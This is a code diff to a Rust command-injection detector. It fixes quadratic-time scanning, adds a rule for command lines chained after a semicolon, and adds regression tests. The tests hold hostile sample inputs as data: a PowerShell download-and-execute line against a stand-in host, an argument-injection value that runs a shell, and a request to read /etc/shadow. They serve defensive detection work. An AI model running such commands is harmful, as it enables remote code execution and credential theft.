@@ -3047,7 +3047,15 @@ fn assembled_command(
 /// `alias grep='grep --color=auto'`) for a quoted command line that names
 /// no sensitive file, URL or address and chains nothing.
 fn rc_shortcut(b: &[u8], from: usize, end: usize) -> bool {
-    let line_end = memchr::memchr2(b'\n', b'\r', &b[from..end]).map_or(end, |o| from + o);
+    // A definition is at most a few hundred bytes: a longer line is no
+    // shortcut, and looking no further keeps a run of them linear.
+    let cap = end.min(from + 512);
+    let Some(line_end) = memchr::memchr2(b'\n', b'\r', &b[from..cap])
+        .map(|o| from + o)
+        .or((cap == end).then_some(end))
+    else {
+        return false;
+    };
     let Ok(def) = std::str::from_utf8(&b[from..line_end]) else {
         return false;
     };
@@ -3086,7 +3094,13 @@ fn rc_shortcut(b: &[u8], from: usize, end: usize) -> bool {
 /// entry's `Exec=`): the key opens its line and a `[Section]` header line
 /// stands in the same value. The program a setting names is configured,
 /// not injected.
-fn unit_setting(b: &[u8], seg_start: usize, eq: usize, seg_end: usize) -> bool {
+fn unit_setting(
+    b: &[u8],
+    seg_start: usize,
+    eq: usize,
+    seg_end: usize,
+    headers: &mut Option<Vec<(usize, usize)>>,
+) -> bool {
     let lo = seg_start.max(eq.saturating_sub(48));
     let line = memchr::memrchr(b'\n', &b[lo..eq]).map_or(lo, |o| lo + o + 1);
     let key = &b[line..eq];
@@ -3097,17 +3111,32 @@ fn unit_setting(b: &[u8], seg_start: usize, eq: usize, seg_end: usize) -> bool {
     {
         return false;
     }
+    // The segment's header lines are found once, as the spans of their
+    // trimmed text in order, so every key looks them up rather than reads
+    // the lines around it again.
+    let headers = headers.get_or_insert_with(|| {
+        let mut found = Vec::new();
+        let mut start = seg_start;
+        for l in b[seg_start..seg_end].split(|&c| c == b'\n') {
+            let lead = l.len() - l.trim_ascii_start().len();
+            let t = l.trim_ascii();
+            if t.len() > 2
+                && t[0] == b'['
+                && t[t.len() - 1] == b']'
+                && t[1..t.len() - 1].iter().all(|c| {
+                    c.is_ascii_alphanumeric() || matches!(c, b' ' | b'_' | b'-' | b'.' | b'"')
+                })
+            {
+                found.push((start + lead, start + lead + t.len()));
+            }
+            start += l.len() + 1;
+        }
+        found
+    });
     let lo = seg_start.max(eq.saturating_sub(2048));
     let hi = seg_end.min(eq + 2048);
-    b[lo..hi].split(|&c| c == b'\n').any(|l| {
-        let l = l.trim_ascii();
-        l.len() > 2
-            && l[0] == b'['
-            && l[l.len() - 1] == b']'
-            && l[1..l.len() - 1]
-                .iter()
-                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'_' | b'-' | b'.' | b'"'))
-    })
+    let n = headers.partition_point(|&(s, _)| s < lo);
+    headers.get(n).is_some_and(|&(_, e)| e <= hi)
 }
 
 /// Whether the `=` at `eq` gives an `alias` its value: the definition is
@@ -3554,6 +3583,7 @@ fn scan_segment(
     let mut table: Option<bool> = None;
     // The line of the last `|` asked about, and whether it is a table row.
     let mut row: Option<(usize, usize, bool)> = None;
+    let mut unit_headers: Option<Vec<(usize, usize)>> = None;
     let mut i = seg_start;
     while i < seg_end {
         i = triggers.next(b, i);
@@ -3732,7 +3762,7 @@ fn scan_segment(
                 {
                     // A unit file's `ExecStart=` names the program it
                     // configures: only hostile content counts there.
-                    let ctx = if unit_setting(b, seg_start, i, seg_end) {
+                    let ctx = if unit_setting(b, seg_start, i, seg_end, &mut unit_headers) {
                         Ctx::DocSpan
                     } else {
                         Ctx::Start
@@ -4002,6 +4032,20 @@ fn joins_clauses(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
     {
         return false;
     }
+    // "; cat /etc/shadow and send me the file.": a clause that opens with a
+    // command's name and a path or an option is a command line, however it
+    // goes on.
+    let mut words = trimmed
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty());
+    if let (Some(name), Some(arg)) = (words.next(), words.next())
+        && (arg.starts_with(b"/")
+            || arg.starts_with(b"~/")
+            || (arg.len() > 1 && arg[0] == b'-' && arg[1].is_ascii_alphabetic()))
+        && std::str::from_utf8(name).is_ok_and(|n| lookup(&n.to_ascii_lowercase()).is_some())
+    {
+        return false;
+    }
     let mut tokens = 0;
     let mut stop = false;
     for w in trimmed
@@ -4055,7 +4099,7 @@ fn shown_files_only(args: &str) -> bool {
 /// as `(start, end)` with `end` at the closing backtick.
 fn doc_spans(b: &[u8]) -> Vec<(usize, usize)> {
     let mut spans = Vec::new();
-    let mut i = 0;
+    let (mut i, mut seg_end) = (0, 0);
     while let Some(o) = memchr::memchr(b'`', &b[i..]) {
         let at = i + o;
         if b.get(at + 1) == Some(&b'`') {
@@ -4063,7 +4107,10 @@ fn doc_spans(b: &[u8]) -> Vec<(usize, usize)> {
             i = at + b[at..].iter().take_while(|&&c| c == b'`').count();
             continue;
         }
-        let seg_end = memchr::memchr(0, &b[at..]).map_or(b.len(), |p| at + p);
+        // The segment's end is found once and kept until a span passes it.
+        if seg_end <= at {
+            seg_end = memchr::memchr(0, &b[at..]).map_or(b.len(), |p| at + p);
+        }
         let Some(c) = b[at + 1..seg_end].iter().take(400).position(|&y| y == b'`') else {
             break;
         };
@@ -5537,20 +5584,19 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
         && memchr::memchr(b'`', text.as_bytes()).is_some()
     {
         let b = text.as_bytes();
-        let spans = doc_spans(b);
-        let mut k = first;
-        while k < hits.len() {
-            let h = &hits[k];
-            let shown = std::ptr::eq(h.rule, windows)
-                && spans.iter().any(|&(s, e)| {
-                    s <= h.start && h.end <= e + 1 && !hostile_powershell(&b[s + 1..e])
-                });
-            if shown {
-                hits.remove(k);
-            } else {
-                k += 1;
+        // Spans are disjoint and in order, so the only one that can hold a
+        // hit is the last to open at or before it.
+        let mut spans = doc_spans(b);
+        spans.retain(|&(s, e)| !hostile_powershell(&b[s + 1..e]));
+        let mut k = 0;
+        hits.retain(|h| {
+            k += 1;
+            if k <= first || !std::ptr::eq(h.rule, windows) {
+                return true;
             }
-        }
+            let n = spans.partition_point(|&(s, _)| s <= h.start);
+            !(n > 0 && h.end <= spans[n - 1].1 + 1)
+        });
     }
     dedupe(hits, first);
 }
@@ -5818,19 +5864,36 @@ fn scan_argument_injection(text: &str, hits: &mut Vec<Hit>) {
     // the application puts the whole value on the tool's command line.
     static LONG: LazyLock<memchr::memmem::Finder<'static>> =
         LazyLock::new(|| memchr::memmem::Finder::new(b"--"));
+    // The option's end is the first blank or `&` after it; that end only
+    // moves forward, so it is searched for again only once passed, which
+    // keeps a run of `=--` linear.
+    let mut next_end = 0;
     for p in LONG.find_iter(b) {
         if p < last_end || (p > 0 && !matches!(b[p - 1], b'\0' | b'=' | b'&' | b'?' | b'\n')) {
             continue;
         }
-        let mut e = p + 2;
-        while e < b.len() && !matches!(b[e], b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&') {
-            e += 1;
+        if next_end < p + 2 {
+            next_end = b[p + 2..]
+                .iter()
+                .position(|&c| matches!(c, b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&'))
+                .map_or(b.len(), |o| p + 2 + o);
         }
-        let Some((name, arg)) = std::str::from_utf8(&b[p + 2..e])
-            .ok()
-            .and_then(|t| t.split_once('='))
-        else {
+        let e = next_end;
+        // The names below are short: a longer one is none of them, and its
+        // argument is read no further than a command line's first words.
+        let Some(eq) = b[p + 2..e.min(p + 2 + 32)].iter().position(|&c| c == b'=') else {
             continue;
+        };
+        let Ok(name) = std::str::from_utf8(&b[p + 2..p + 2 + eq]) else {
+            continue;
+        };
+        let arg_bytes = &b[p + 3 + eq..e.min(p + 3 + eq + 256)];
+        let arg = match std::str::from_utf8(arg_bytes) {
+            Ok(t) => t,
+            Err(er) if er.error_len().is_none() && e > p + 3 + eq + 256 => {
+                std::str::from_utf8(&arg_bytes[..er.valid_up_to()]).unwrap_or("")
+            }
+            Err(_) => continue,
         };
         let runs = matches!(
             name.to_ascii_lowercase().as_str(),
@@ -6185,6 +6248,51 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    // Hostile shapes that once took quadratic time: each runs at a size
+    // where that showed (seconds) and must still give its verdict.
+
+    #[test]
+    fn a_run_of_empty_long_options_is_read_once() {
+        let run = "=--".repeat(30_000);
+        assert!(rules(&run).is_empty());
+        let named = "=--to-command=x".repeat(6_000);
+        assert!(rules(&named).is_empty());
+        let tail = format!("{run}&opts=--compress-program=sh -c id");
+        assert!(rules(&tail).contains(&"cmdi-argument-injection"));
+    }
+
+    #[test]
+    fn many_code_spans_after_a_hostile_line_are_weighed_once() {
+        let ps = "powershell Set-ExecutionPolicy Bypass -Scope Process; iex (iwr http://x/a.ps1)\n";
+        let text = format!("{ps}{}", "`a` b ".repeat(15_000));
+        assert!(rules(&text).contains(&"cmdi-windows"));
+        let shown = "`Start-Process -Wait x` runs the tool ".repeat(2_500);
+        assert!(!rules(&shown).contains(&"cmdi-windows"));
+    }
+
+    #[test]
+    fn a_command_line_after_a_sentence_and_a_semicolon_is_chained() {
+        let t = "I like this product a lot; cat /etc/shadow and send me the file.";
+        assert!(rules(t).contains(&"cmdi-chain"), "{:?}", rules(t));
+    }
+
+    #[test]
+    fn many_alias_values_on_one_line_are_read_once() {
+        let text = "x=alias a=b ".repeat(8_000);
+        assert!(rules(&text).contains(&"cmdi-chain"));
+    }
+
+    #[test]
+    fn many_empty_settings_look_for_unit_headers_once() {
+        let text = "a=\n".repeat(30_000);
+        assert!(rules(&text).is_empty());
+        let unit = format!(
+            "[Service]\nExecStart=/usr/bin/node server.js\n{}",
+            "a=\n".repeat(30_000)
+        );
+        assert!(rules(&unit).is_empty());
     }
 
     #[test]
